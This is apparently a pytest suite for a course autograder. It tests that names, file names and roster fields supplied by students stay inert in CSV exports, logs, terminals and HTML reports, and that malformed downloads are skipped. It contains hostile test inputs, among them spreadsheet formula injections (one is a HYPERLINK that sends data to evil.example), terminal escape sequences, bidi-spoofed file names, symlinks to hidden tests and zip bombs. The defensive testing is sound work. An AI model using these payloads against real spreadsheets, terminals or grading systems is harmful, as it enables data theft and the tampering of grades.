"""Instructor surfaces under hostile input (issue 19): what students control reaches the instructor's files and
terminal inert, an LMS download degrades one entry at a time, merge refuses an unfinished shard, the Gradescope
autograder reads regular files only, and the course file and roster are bounded regular files.

Every attack here is handled on the trusted side before or after any worker runs, so none depends on the sandbox
tier: classes are graded on the ``process`` tier (``--allow-weak-sandbox``), the quickest everywhere.

The LMS layouts are the ones their exporters write (the same as ``tests/test_collect.py`` and
``tests/test_course.py``):
- Moodle, ``mod/assign/locallib.php`` (``assign::download_submissions``, moodle/moodle): a folder per submission,
  ``clean_filename(str_replace('_', ' ', fullname) . '_' . get_uniqueid_for_user($userid)) .
  '_assignsubmission_file_'``; so full names ``Ada_Lovelace`` and ``Ada Lovelace`` download alike.
- Canvas: one flat folder, ``<name>[_LATE]_<user id>_<submission id>_<file name>`` (as in test_collect.py).
- Gradescope: ``submission_<id>/`` folders and ``submission_metadata.yml`` with ``:submitters:`` (``:name:``,
  ``:sid:``, ``:email:``) and ``:created_at:``; students control their SID field only through the roster, but a
  folder of another LMS or a hand-made download can carry anything.
- GitHub Classroom: one clone per student; commit dates are whatever the student's git wrote (year 11476 is
  ``GIT_COMMITTER_DATE=@300000000000``).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import time
import zipfile
from pathlib import Path

import pytest
from classroom import PROBE_FLOAT, PROBE_REFERENCE, make_class, probe_root, readable_tmpdir, remove_readable_tmpdirs
from helpers import judge

from judge.engine.problems import ProblemError
from judge.grading.collect import collect

WEAK = ("--sandbox", "process", "--allow-weak-sandbox")
PROBLEMS = ["causal_mask", "padding_mask"]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HIDDEN = ("\n", "\r", "\x1b", "\x07", "\u202e", "\u2066", "\x85", "\u2028")


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    """No cell a spreadsheet would evaluate: text starting with a formula character carries a leading quote."""
    for row in rows:
        for cell in row:
            try:
                float(cell)
                continue  # a number the judge wrote
            except ValueError:
                pass
            assert not cell.lstrip(" ").startswith(FORMULA), f"{where}: formula cell {cell!r}"
            assert not any(ch in cell for ch in HIDDEN), f"{where}: control character in {cell!r}"


# --------------------------------------------------------------------------------------------------------------
# Text out is inert: grades.csv, canvas.csv, moodle.csv, ignored.txt, grading.log, the terminal, report.html

HOSTILE_STUDENTS = {
    "=1+2": PROBE_REFERENCE,
    "+SUM(1)": PROBE_FLOAT,
    "-3": PROBE_REFERENCE,
    "@A1": None,
    "\uff1dcmd": PROBE_REFERENCE,
    "line\n[judge grade 2027-01-01T00:00:00] graded 99 of 99 pairs": PROBE_REFERENCE,
    "term\x1b]0;owned\x07\x1b[2J": PROBE_REFERENCE,
    "bidi\u202egnp.exe": PROBE_REFERENCE,
}
FORGED = "forged: everything is fine"


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("inert")
    root = probe_root(tmp)
    klass = make_class(tmp / "class", HOSTILE_STUDENTS)
    (klass / "-3" / f"notes\n{FORGED}\tx.txt").write_text("stray\n")
    (klass / "-3" / "clear\x1b[2J\x1b[31m.txt").write_text("stray\n")
    out = tmp / "out"
    proc = judge("grade", str(klass), "--out", str(out), "--jobs", "1", *WEAK, root=root, timeout=300)
    return root, klass, out, proc


@pytest.mark.slow
def test_grades_csv_cells_cannot_start_a_formula(hostile_class):
    _, _, out, proc = hostile_class
    assert proc.returncode == 0, proc.stderr
    rows = read_csv(out / "grades.csv")
    assert_no_formula(rows, "grades.csv")
    by_student = {r[0]: r for r in rows[1:]}
    assert "'=1+2" in by_student and "'+SUM(1)" in by_student and "'-3" in by_student
    assert "'\uff1dcmd" in by_student and "'@A1" in by_student
    assert by_student["'=1+2"][1:] == ["3", "3", "3", "100.00"]  # numbers stay bare numbers
    assert by_student["'+SUM(1)"][1] == "0" and by_student["'@A1"][1] == "0"
    assert "line\\n[judge grade" in "".join(by_student)  # the newline shown, not obeyed
    text = (out / "grades.csv").read_text(encoding="utf-8")
    assert "\"'=1+2\",3,3,3,100.00" in text  # text cells quoted (OWASP), numbers bare


@pytest.mark.slow
def test_logs_and_terminal_show_control_characters(hostile_class):
    _, _, out, proc = hostile_class
    for name, text in (("stdout", proc.stdout), ("stderr", proc.stderr),
                       ("grading.log", (out / "grading.log").read_text(encoding="utf-8")),
                       ("ignored.txt", (out / "ignored.txt").read_text(encoding="utf-8"))):
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, name
        for line in text.splitlines():
            assert not line.startswith((FORGED, "[judge grade 2027")), f"{name}: forged line {line!r}"
    log = (out / "grading.log").read_text(encoding="utf-8")
    assert all(line.startswith("[judge grade ") for line in log.splitlines()), log
    ignored = (out / "ignored.txt").read_text(encoding="utf-8").splitlines()
    assert all(line.count("\t") == 1 for line in ignored[1:]), ignored  # path<TAB>why, still two fields
    assert any(f"notes\\n{FORGED}\\tx.txt" in line for line in ignored)
    assert "clear\\x1b[2J\\x1b[31m.txt" in proc.stdout  # shown on the terminal, escaped


@pytest.mark.slow
def test_report_html_forbids_scripts_and_shows_bidi(hostile_class):
    _, _, out, _ = hostile_class
    html = (out / "report.html").read_text(encoding="utf-8")
    head = html.split("</head>")[0]
    assert '<meta http-equiv="Content-Security-Policy"' in head
    policy = head.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
    assert "default-src 'none'" in policy and "script-src 'none'" in policy and "base-uri 'none'" in policy
    assert "<script" not in html.lower()  # nothing of its own to allow: 'none' is exact
    assert "\u202e" not in html and "\x1b" not in html
    assert "bidi\\u202egnp.exe" in html
    feedback = {p.name for p in (out / "feedback").iterdir()}
    assert "bidi\u202egnp.exe.md" in feedback  # files keep the student's folder name; only shown text is escaped


@pytest.mark.slow
def test_lms_exports_neutralise_roster_text(hostile_class, tmp_path):
    """canvas.csv and moodle.csv carry the roster's names, e-mails, sections and LMS ids: every text cell inert,
    the assignment points numbers."""
    from judge.grading.course import load_course
    from judge.grading.gradebook import Gradebook
    from judge.grading.outputs import write_lms_exports

    _, _, out, _ = hostile_class
    roster = io.StringIO()
    writer = csv.writer(roster)
    writer.writerow(["id", "name", "email", "section", "canvas_id", "sis_user_id", "sis_login_id", "moodle_id"])
    writer.writerow(["=1+2", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "-2+3@example.org", "+A", "101",
                     "@S1", "\t-login", "-5"])  # the roster reader strips blanks
    writer.writerow(["-3", "Ada\u202eecalevoL\r\nforged,row", "ada@example.org", "\uff20B", "102", "S2", "ada",
                     "5552"])
    (tmp_path / "roster.csv").write_text(roster.getvalue(), encoding="utf-8")
    (tmp_path / "course.toml").write_text('roster = "roster.csv"\n[[assignments]]\nid = "a1"\n'
                                          'title = "@Masks"\ncanvas_column = "=Masks (42)"\npoints = 10\n'
                                          'problems = { probe = 1 }\n')
    course = load_course(tmp_path / "course.toml")
    with Gradebook(out / "gradebook.db") as book:
        write_lms_exports(book, tmp_path, course)
    canvas, moodle = read_csv(tmp_path / "canvas.csv"), read_csv(tmp_path / "moodle.csv")
    assert_no_formula(canvas, "canvas.csv")
    assert_no_formula(moodle, "moodle.csv")
    assert len(canvas) == 4 and len(moodle) == 3  # the CR LF in a name forged no row
    assert canvas[1][-1] == "10" and canvas[2][-1] == "10" and canvas[3][-1] == "10"
    assert canvas[0][-1] == "'=Masks (42)" and moodle[0][-1] == "Assignment: @Masks (Real)"  # Moodle's own form
    assert canvas[2][:5] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "101", "'@S1", "'-login", "'+A"]
    assert moodle[1][:2] == ["'-2+3@example.org", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"]
    assert canvas[3][0] == "Ada\\u202eecalevoL\\r\\nforged,row"


def test_an_error_naming_a_hostile_path_stays_one_line(tmp_path):
    bad = tmp_path / "dl\n[judge grade] forged\x1b[2J.zip"
    proc = judge("collect", str(bad), str(tmp_path / "subs"), "--problems", "causal_mask", timeout=60)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.count("\n") == 1 and "\x1b" not in proc.stderr, proc.stderr
    assert "dl\\n[judge grade] forged\\x1b[2J.zip: no such file or folder" in proc.stderr


def test_inert_text_rules():
    from judge.grading.inert_text import csv_number, csv_text, html_text, visible

    assert visible("a\nb\rc\td\x1b[0m\x00\x7f\x85\u2028\u202e\u2066\ud8ff") == \
        "a\\nb\\rc\\td\\x1b[0m\\x00\\x7f\\x85\\u2028\\u202e\\u2066\\ud8ff"
    assert visible("Zoë Ñandú 李 \\n") == "Zoë Ñandú 李 \\n"  # letters of any script, and backslashes, kept
    for start in FORMULA:
        assert csv_text(start + "1+1").startswith("'"), start
        assert csv_text("  " + start + "1").startswith("'"), start
    assert csv_text("Ada") == "Ada" and csv_text("3") == "3" and csv_text("a=b") == "a=b"
    assert str(csv_number(-1.5)) == "-1.5" and str(csv_number(3.0)) == "3" and csv_number(None) == ""
    assert str(csv_number(2 / 3, ".2f")) == "0.67"
    assert html_text('<b x="1">\u202e\tx\n') == "&lt;b x=&quot;1&quot;&gt;\\u202e\tx\n"


# --------------------------------------------------------------------------------------------------------------
# Collect degrades one entry at a time

ROSTER = [
    {"id": "ada", "name": "Ada Lovelace", "email": "ada@example.org", "canvas_id": "101", "moodle_id": "5551"},
    {"id": "alan", "name": "Alan Turing", "email": "alan@example.org", "canvas_id": "102", "moodle_id": "5552"},
]


def canvas_zip(path: Path, extra: list[tuple[str, str]]) -> Path:
    """A Canvas download: ada's and alan's honest files, then ``extra`` entries (name, text) in that order."""
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("lovelaceada_101_9001_causal_mask.py", "# ada\n")
        zf.writestr("turingalan_102_9002_causal_mask.py", "# alan\n")
        for name, text in extra:
            zf.writestr(name, text)
    return path


def collected(out: Path) -> dict[str, str]:
    return {p.relative_to(out).as_posix(): p.read_text() for p in sorted(out.rglob("*.py"))}


def run_collect(*args: str, root: Path | None = None) -> subprocess.CompletedProcess:
    proc = judge("collect", *args, "--problems", ",".join(PROBLEMS), root=root, timeout=120)
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def test_a_300_byte_file_name_skips_one_entry(tmp_path):
    long_name = "lovelaceada_101_9001_" + "a" * 300 + ".py"
    zpath = canvas_zip(tmp_path / "dl.zip", [(long_name, "# too long\n")])
    proc = run_collect(str(zpath), str(tmp_path / "subs"))
    assert proc.returncode == 0, proc.stderr
    assert collected(tmp_path / "subs") == {"lovelaceada_101/causal_mask.py": "# ada\n",
                                            "turingalan_102/causal_mask.py": "# alan\n"}
    report = json.loads((tmp_path / "subs" / "collect.json").read_text())
    assert any("longer than 255 bytes" in i for i in report["ignored"]), report["ignored"]


def test_a_file_and_a_folder_of_one_name_keep_neither(tmp_path):
    zpath = canvas_zip(tmp_path / "dl.zip", [("turingalan_102_9002_padding_mask.py", "# file\n"),
                                             ("turingalan_102_9002_padding_mask.py/causal_mask.py", "# under\n")])
    proc = run_collect(str(zpath), str(tmp_path / "subs"))
    assert proc.returncode == 0, proc.stderr
    assert collected(tmp_path / "subs") == {"lovelaceada_101/causal_mask.py": "# ada\n",
                                            "turingalan_102/causal_mask.py": "# alan\n"}
    ignored = json.loads((tmp_path / "subs" / "collect.json").read_text())["ignored"]
    assert sum("a file and a folder have one name" in i for i in ignored) == 2, ignored


def test_two_zip_entries_of_one_name_keep_neither(tmp_path):
    """The attacker's copy comes second in the zip (the one ``extractall`` would keep): neither is collected."""
    zpath = tmp_path / "dl.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("lovelaceada_101_9001_causal_mask.py", "# ada\n")
        with pytest.warns(UserWarning, match="Duplicate name"):
            zf.writestr("lovelaceada_101_9001_causal_mask.py", "# attacker\n")
        zf.writestr("turingalan_102_9002_causal_mask.py", "# alan\n")
    proc = run_collect(str(zpath), str(tmp_path / "subs"))
    assert proc.returncode == 0, proc.stderr
    assert collected(tmp_path / "subs") == {"turingalan_102/causal_mask.py": "# alan\n"}
    ignored = json.loads((tmp_path / "subs" / "collect.json").read_text())["ignored"]
    assert sum("2 zip entries have this name; none is kept" in i for i in ignored) == 2, ignored


def test_a_zip_of_100000_empty_entries_is_refused_before_unpacking(tmp_path):
    zpath = tmp_path / "many.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        for i in range(100_000):
            zf.writestr(f"x_{i}_1_f.py", "")
    started = time.monotonic()
    with pytest.raises(ProblemError, match="has 100000 entries, more than 50000; unzip it yourself"):
        collect(zpath, tmp_path / "subs", PROBLEMS)
    assert time.monotonic() - started < 30  # refused from the end record, not after unpacking 100,000 files
    assert not (tmp_path / "subs").exists()
    assert not list(tmp_path.glob(".subs*")), "a staging folder was left behind"


def gradescope_download(folder: Path, submitters: dict[str, tuple[str, str]]) -> Path:
    """``submission_<n>/causal_mask.py`` and submission_metadata.yml: n -> (sid, created_at)."""
    meta = []
    for n, (sid, when) in submitters.items():
        (folder / f"submission_{n}").mkdir(parents=True)
        (folder / f"submission_{n}" / "causal_mask.py").write_text(f"# {n}\n")
        meta.append(f"submission_{n}:\n  :submitters:\n  - :name: Student {n}\n    :sid: '{sid}'\n"
                    f"    :email: s{n}@example.org\n  :created_at: {when}\n")
    (folder / "submission_metadata.yml").write_text("".join(meta))
    return folder


@pytest.mark.parametrize("sid", ["collect.json", "collect_report.txt", "x" * 300])
def test_a_reserved_or_impossible_student_id_skips_one_submission(tmp_path, sid):
    dl = gradescope_download(tmp_path / "gs", {"1": ("s001", "2027-02-14 23:00:00.000000000 +0000"),
                                               "2": (sid, "2027-02-14 23:00:00.000000000 +0000"),
                                               "3": ("s003", "2027-02-14 23:00:00.000000000 +0000")})
    proc = run_collect(str(dl), str(tmp_path / "subs"))
    assert proc.returncode == 0, proc.stderr
    assert collected(tmp_path / "subs") == {"s001/causal_mask.py": "# 1\n", "s003/causal_mask.py": "# 3\n"}
    report = json.loads((tmp_path / "subs" / "collect.json").read_text())  # still the manifest, not a folder
    assert [u["submission"] for u in report["unmatched_students"]] == ["submission_2 (Student 2)"]


@pytest.mark.parametrize("when", ["2027-02-30 23:00:00.000000000 +0000", "11476-08-15 05:20:00 +0000",
                                  "9999-12-31 23:59:59.000000000 -1200", "yesterday"])
def test_an_unreadable_or_absurd_time_skips_one_submission(tmp_path, when):
    dl = gradescope_download(tmp_path / "gs", {"1": ("s001", "2027-02-14 23:00:00.000000000 +0000"),
                                               "2": ("s002", when)})
    proc = run_collect(str(dl), str(tmp_path / "subs"))
    assert proc.returncode == 0, proc.stderr
    assert collected(tmp_path / "subs") == {"s001/causal_mask.py": "# 1\n"}
    report = json.loads((tmp_path / "subs" / "collect.json").read_text())
    assert "submission time" in report["unmatched_students"][0]["why"]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_commit_dated_in_the_year_11476_skips_one_repository(tmp_path):
    base = tmp_path / "classroom"
    for user, date in (("adalove", "1767225600 +0000"), ("mallory", "300000000000 +0000")):
        repo = base / f"hw1-{user}"
        repo.mkdir(parents=True)
        (repo / "causal_mask.py").write_text(f"# {user}\n")
        env = dict(os.environ, GIT_COMMITTER_DATE=f"@{date}", GIT_AUTHOR_DATE=f"@{date}")
        for cmd in (["init", "-q"], ["add", "."], ["-c", "user.name=x", "-c", "user.email=x@y", "commit", "-qm", "x"]):
            subprocess.run(["git", "-C", str(repo), *cmd], check=True, env=env)
    proc = run_collect(str(base), str(tmp_path / "subs"), "--format", "github")
    assert proc.returncode == 0, proc.stderr
    assert collected(tmp_path / "subs") == {"hw1-adalove/causal_mask.py": "# adalove\n"}
    report = json.loads((tmp_path / "subs" / "collect.json").read_text())
    assert "time of the last commit" in report["unmatched_students"][0]["why"]
    assert "11476" in report["unmatched_students"][0]["why"]


def moodle_download(folder: Path, people: list[tuple[str, str, str]]) -> Path:
    """(full name as Moodle writes it, unique id, text of causal_mask.py)."""
    for name, uid, text in people:
        sub = folder / f"{name}_{uid}_assignsubmission_file_"
        sub.mkdir(parents=True)
        (sub / "causal_mask.py").write_text(text)
    return folder


def test_moodle_names_that_download_alike_both_kept_without_a_roster(tmp_path):
    """Moodle writes ``Ada_Lovelace`` as ``Ada Lovelace``: two students, one sanitized name; each keeps their file,
    told apart by the Moodle id (the attacker's sorts first and used to win)."""
    dl = moodle_download(tmp_path / "m", [("Ada Lovelace", "1200", "# attacker\n"),
                                          ("Ada Lovelace", "5551", "# victim\n")])
    proc = run_collect(str(dl), str(tmp_path / "subs"))
    assert proc.returncode == 0, proc.stderr
    assert collected(tmp_path / "subs") == {"Ada_Lovelace_1200/causal_mask.py": "# attacker\n",
                                            "Ada_Lovelace_5551/causal_mask.py": "# victim\n"}


def test_a_name_match_never_beats_an_lms_id_match(tmp_path):
    """With a roster, the attacker (participant 1200) matches ada only by name; ada's own submission (participant
    5551) is the one Moodle's grading worksheet vouches for (its e-mail is hers): hers is collected, the
    attacker's reported. (A Moodle download's number is a per-assignment participant id; only the worksheet
    ties it to a user.)"""
    from judge.grading.collect import CollectOptions

    dl = moodle_download(tmp_path / "m", [("Ada Lovelace", "1200", "# attacker\n"),
                                          ("Ada Lovelace", "5551", "# victim\n"),
                                          ("Alan Turing", "5552", "# alan\n")])
    sheet = tmp_path / "worksheet.csv"
    sheet.write_text("Identifier,Full name,Email address,Last modified (submission)\n"
                     "Participant 1200,Ada Lovelace,mallory@example.org,-\n"
                     "Participant 5551,Ada Lovelace,ada@example.org,-\n"
                     "Participant 5552,Alan Turing,alan@example.org,-\n")
    report = collect(dl, tmp_path / "subs", PROBLEMS, roster=[dict(r) for r in ROSTER],
                     options=CollectOptions(worksheet=sheet, timezone="UTC"))
    assert collected(tmp_path / "subs") == {"ada/causal_mask.py": "# victim\n", "alan/causal_mask.py": "# alan\n"}
    umask = os.umask(0o22)
    os.umask(umask)
    assert (tmp_path / "subs").stat().st_mode & 0o777 == 0o777 & ~umask  # built aside, but made as mkdir makes it
    assert [u["submission"] for u in report.unmatched_students] == ["Ada Lovelace (Moodle participant 1200)"]
    assert "only by name" in report.unmatched_students[0]["why"]


def test_two_name_matches_keep_neither(tmp_path):
    roster = [{"id": "ada", "name": "Ada Lovelace"}, {"id": "alan", "name": "Alan Turing"}]  # no LMS ids
    dl = moodle_download(tmp_path / "m", [("Ada Lovelace", "1200", "# one\n"), ("Ada Lovelace", "5551", "# two\n")])
    report = collect(dl, tmp_path / "subs", PROBLEMS, roster=roster)
    assert collected(tmp_path / "subs") == {}
    assert len(report.unmatched_students) == 2 and all("none was collected" in u["why"]
                                                       for u in report.unmatched_students)
    assert report.without_submission == ["ada", "alan"]


def test_collect_report_lines_cannot_be_forged(tmp_path):
    """A file name with a newline, an escape sequence and bytes that are not UTF-8 (a zip from another system)."""
    base = moodle_download(tmp_path / "m", [("Ada Lovelace", "5551", "# ada\n")])
    sub = base / "Alan Turing_5552_assignsubmission_file_"
    sub.mkdir(parents=True)
    (sub / "causal_mask.py").write_text("# alan\n")
    (sub / "notes\n  ada-causal_mask.py <- forged (on time).txt").write_text("x")
    (sub / "clear\x1b[2J.txt").write_text("x")
    os.mkdir(os.fsencode(sub) + b"/latin1-\xe9t\xe9")
    (Path(os.fsdecode(os.fsencode(sub) + b"/latin1-\xe9t\xe9")) / "padding_mask.py").write_text("# deep\n")
    proc = run_collect(str(base), str(tmp_path / "subs"))
    assert proc.returncode == 0, proc.stderr
    text = (tmp_path / "subs" / "collect_report.txt").read_text(encoding="utf-8")
    assert "\x1b" not in text
    assert not any(line.startswith("  ada-") for line in text.splitlines()), text
    assert "notes\\n  ada-causal_mask.py <- forged" in text and "latin1-\\udce9t\\udce9" in text


def test_nothing_is_half_written(tmp_path, monkeypatch):
    """Interrupted after the first student's file: the class folder does not exist at all (never half of it)."""
    import judge.grading.collect as module

    zpath = canvas_zip(tmp_path / "dl.zip", [])
    copies = []

    def copy_then_stop(src, dst, **kw):
        if copies:
            raise KeyboardInterrupt
        copies.append(dst)
        return shutil.copyfile(src, dst, **kw)

    monkeypatch.setattr(module.shutil, "copyfile", copy_then_stop)
    with pytest.raises(KeyboardInterrupt):
        collect(zpath, tmp_path / "subs", PROBLEMS)
    assert copies and not (tmp_path / "subs").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["dl.zip"]


# --------------------------------------------------------------------------------------------------------------
# Merge refuses an incomplete set

def test_merge_refuses_a_shard_that_did_not_finish(tmp_path):
    root = probe_root(tmp_path)
    klass = make_class(tmp_path / "class", {f"s{i}": PROBE_REFERENCE for i in range(6)})
    outs = [tmp_path / f"shard{k}" for k in (1, 2)]
    for k, out in zip((1, 2), outs, strict=True):
        proc = judge("grade", str(klass), "--out", str(out), "--shard", f"{k}/2", "--jobs", "1", "-q", *WEAK,
                     "--no-similarity", root=root)
        assert proc.returncode == 0, proc.stderr
    db = sqlite3.connect(outs[1] / "gradebook.db")  # shard 2 killed after its first pair: the rest has no row
    with db:
        kept = db.execute("SELECT student FROM grades ORDER BY student LIMIT 1").fetchone()[0]
        lost = [r[0] for r in db.execute("SELECT student FROM grades WHERE student != ?", (kept,))]
        db.execute("DELETE FROM test_results WHERE student != ?", (kept,))
        db.execute("DELETE FROM grades WHERE student != ?", (kept,))
    db.close()
    assert lost, "shard 2 graded a single pair: pick other student names"
    merged = tmp_path / "merged"
    proc = judge("merge", str(merged), *map(str, outs), root=root)
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr
    assert f"{len(lost)} pair(s) not graded: shard 2/2" in proc.stderr and "did not finish" in proc.stderr
    assert all(f"{s}/probe" in proc.stderr for s in lost)
    assert not (merged / "grades.csv").exists() and not (merged / "feedback").exists()  # nothing told to students


# --------------------------------------------------------------------------------------------------------------
# The autograder reads regular files only; course file and roster are bounded regular files

def test_autograder_never_follows_a_link_in_the_submission(tmp_path):
    from judge.grading.autograder import find_submissions

    hidden = tmp_path / "source" / "problems" / "causal_mask" / "tests_hidden.py"
    hidden.parent.mkdir(parents=True)
    hidden.write_text("SECRET = 1\n")
    sub = tmp_path / "submission"
    (sub / "deep").mkdir(parents=True)
    (sub / "causal_mask.py").symlink_to(hidden)
    (sub / "linked").symlink_to(hidden.parent, target_is_directory=True)
    os.link(hidden, sub / "deep" / "padding_mask.py")  # a hard link to the hidden tests (same file system)
    os.mkfifo(sub / "deep" / "causal_mask.py")
    found = find_submissions(sub, ["causal_mask", "padding_mask", "tests_hidden"])
    assert found == {}, found
    refused: list[str] = []
    find_submissions(sub, ["causal_mask", "padding_mask"], refused)
    assert any(r.startswith("causal_mask.py: refused: a symbolic link") for r in refused), refused
    assert any(r.startswith("deep/causal_mask.py: refused: a special file") for r in refused), refused
    assert any(r.startswith("linked: refused: a symbolic link") for r in refused), refused
    (sub / "deep" / "causal_mask.py").unlink()
    (sub / "deep" / "causal_mask.py").write_text("# mine\n")
    assert find_submissions(sub, ["causal_mask"]) == {"causal_mask": sub / "deep" / "causal_mask.py"}


@pytest.fixture(scope="module")
def redteam_bundle(tmp_path_factory):
    from test_hosted_grading import REDTEAM_ROOT, _bundle

    root = tmp_path_factory.mktemp("agl") / "root"
    shutil.copytree(REDTEAM_ROOT, root)
    (root / "problems" / "tracks.toml").write_text('[[tracks]]\nid = "redteam"\ntitle = "Red team"\n')
    yield _bundle(root, "--allow-weak-sandbox")
    remove_readable_tmpdirs()


@pytest.mark.container_tier
@pytest.mark.parametrize("tier", ["container", "process"])
def test_run_autograder_refuses_a_link_to_the_hidden_tests(redteam_bundle, tmp_path_factory, tier):
    """The submission's ``redteam.py`` is a symbolic link to the bundle's hidden tests: it is not graded (no
    test of the student's runs on that text, nothing of it is echoed) and results.json says why."""
    from test_hosted_grading import _run, _unpack

    from judge.sandbox.launch import tier_available

    if not tier_available(tier) or (tier == "container" and os.geteuid() != 0):
        pytest.skip(f"sandbox tier {tier} is not available here")
    root = readable_tmpdir(tmp_path_factory, "ag-link") / "autograder"
    _unpack(redteam_bundle, root, "")
    hidden = root / "source" / "problems" / "redteam" / "tests_hidden.py"
    (root / "submission" / "redteam.py").unlink()
    (root / "submission" / "redteam.py").symlink_to(hidden)
    (root / "submission" / "sub").mkdir()
    (root / "submission" / "sub" / "link").symlink_to(hidden.parent, target_is_directory=True)
    proc, doc = _run(root, tier)
    assert "Traceback" not in proc.stderr, proc.stderr
    assert doc["score"] == 0
    assert "redteam.py: refused: a symbolic link" in doc["output"], doc["output"]
    assert "sub/link: refused: a symbolic link" in doc["output"]
    assert "no file named <problem_id>.py was found" in doc["output"]
    secret = next(line for line in hidden.read_text().splitlines() if line.startswith("def test_"))
    assert secret not in json.dumps(doc)


COURSE = 'roster = "{roster}"\n[[assignments]]\nid = "a1"\nproblems = {{ probe = 1 }}\n'


def course_error(tmp_path: Path, course_text: str | None = None, roster: str = "roster.csv",
                 course_path: Path | None = None) -> subprocess.CompletedProcess:
    course = course_path or tmp_path / "course.toml"
    if course_text is not None:
        course.write_text(course_text)
    root = probe_root(tmp_path)
    klass = make_class(tmp_path / "class", {"ada": PROBE_REFERENCE})
    proc = judge("grade", str(klass), "--out", str(tmp_path / "out"), "--course", str(course), *WEAK, root=root,
                 timeout=60)
    assert proc.returncode == 2, (proc.returncode, proc.stderr)
    assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr, proc.stderr
    return proc


def test_a_roster_of_dev_zero_is_one_line(tmp_path):
    proc = course_error(tmp_path, COURSE.format(roster="/dev/zero"))
    assert "/dev/zero: a device, fifo or socket, not a regular file" in proc.stderr


def test_a_course_file_that_is_a_fifo_is_one_line(tmp_path):
    os.mkfifo(tmp_path / "course.toml")
    proc = course_error(tmp_path, course_path=tmp_path / "course.toml")
    assert "not a regular file" in proc.stderr


def test_a_deeply_nested_course_file_is_one_line(tmp_path):
    (tmp_path / "roster.csv").write_text("id\nada\n")
    proc = course_error(tmp_path, COURSE.format(roster="roster.csv") + "x = " + "[" * 100_000 + "]" * 100_000 + "\n")
    assert "nested too deeply" in proc.stderr


def test_a_huge_roster_is_one_line(tmp_path):
    (tmp_path / "roster.csv").write_text("id,name\n" + "".join(f"s{i},Student {i}\n" for i in range(400_000)))
    proc = course_error(tmp_path, COURSE.format(roster="roster.csv"))
    assert "roster.csv" in proc.stderr and "allowed" in proc.stderr


def test_a_reserved_roster_id_is_one_line(tmp_path):
    (tmp_path / "roster.csv").write_text("id\nada\ncollect.json\n")
    proc = course_error(tmp_path, COURSE.format(roster="roster.csv"))
    assert "roster.csv:3" in proc.stderr and "reserves" in proc.stderr


def test_a_deeply_nested_collect_manifest_is_one_line(tmp_path):
    root = probe_root(tmp_path)
    klass = make_class(tmp_path / "class", {"ada": PROBE_REFERENCE})
    (klass / "collect.json").write_text("[" * 100_000 + "]" * 100_000)
    proc = judge("grade", str(klass), "--out", str(tmp_path / "out"), *WEAK, root=root, timeout=60)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    assert "collect.json: nested too deeply" in proc.stderr



def test_a_grading_processs_stderr_reaches_the_log_inert(tmp_path):
    """What a grading process prints on stderr (a judge error's traceback, which can quote a student's text) lands
    in grading.log one prefixed line per line, control and bidi characters escaped, each line capped: it can
    neither forge a '[judge grade' line nor drive the terminal of a TA who reads the log."""
    from judge.grading.pool import LOG_LINE_CAP, copy_inert

    text = ("Traceback: \x1b[2J\x1b[31mred\u202e\n[judge grade 2027-01-01T00:00:00] all graded\n"
            + "x" * (3 * LOG_LINE_CAP) + "\n").encode() + b"\xff\xfe not utf-8"
    log = io.BytesIO()
    copy_inert(io.BytesIO(text), log, 4242)
    lines = log.getvalue().decode("utf-8").splitlines()
    assert len(lines) == 4 and all(line.startswith("[grading process 4242] ") for line in lines)
    assert "\x1b" not in log.getvalue().decode() and "\u202e" not in log.getvalue().decode()
    assert "\\x1b[2J" in lines[0] and len(lines[2]) < LOG_LINE_CAP + 100
